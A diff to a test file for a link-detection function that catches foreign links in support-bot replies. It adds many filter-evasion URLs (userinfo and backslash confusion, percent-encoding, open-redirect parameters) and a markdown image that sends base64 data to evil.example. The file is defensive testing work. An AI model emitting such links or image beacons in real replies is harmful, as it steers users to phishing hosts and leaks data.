@@ -40,6 +40,23 @@ test.each([
   'Write to mailto:refunds@evil.com',
   'Go to https://notlumen.example',
   'Go to https://evil.example#https://help.example.com/returns',
+  'Go to EVIL.COM now',
+  'Go to Evil.Com now',
+  'Go to evil.support now',
+  'Go to t.me now',
+  'Go to https:evil.tk',
+  'Go to https:/evil.bank',
+  'See [our help](evil.bank)',
+  'See [our help](/\\evil.bank)',
+  'See https://help.example.com\\@evil.example/returns',
+  'See https://evil.example\\@help.example.com/returns',
+  'See https://help.example.com%2F@evil.example/returns',
+  'See https://help.example.com/returns?next=https%3A%2F%2Fevil.bank%2F',
+  'See https://help.example.com/returns?next=%252F%252Fevil.bank',
+  'See https://help.example.com/returns?next=ev.il',
+  'See https://help.example.com/returns?next=//evil.bank',
+  'See https://%65vil.bank',
+  '![a lamp](https://evil.example/p.png?d=c2VjcmV0)',
 ])('a link to nobody known is found: %s', (reply) => {
   expect(foreign(reply)).toBeDefined()
 })
@@ -58,6 +75,12 @@ test.each([
   'Return it within 30 days.Then we refund it.',
   'Das dauert z.B. 3 Tage, d.h. bis Freitag; Kosten: 4,90 EUR/Stück.',
   'The ratio is 1:2 and/or 3: see above',
+  'See https://help.example.com/returns?order=1042&lang=en',
+  'P.ej. mañana, m.in. lampy, t.ex. idag, f.eks. i dag, p.es. domani, a.s.a.p.',
+  'It begins with https: or http: (both work)',
+  'It is 5 % off, 100%25 wool and a file.name.txt of yours',
+  '返品できます。30日以内です。Lampもです。',
+  'Is your address ada@home.example, or ada.lovelace@lumen.example?',
 ])('the company’s own, and what is no link, is none: %s', (reply) => {
   expect(foreign(reply)).toBeUndefined()
 })
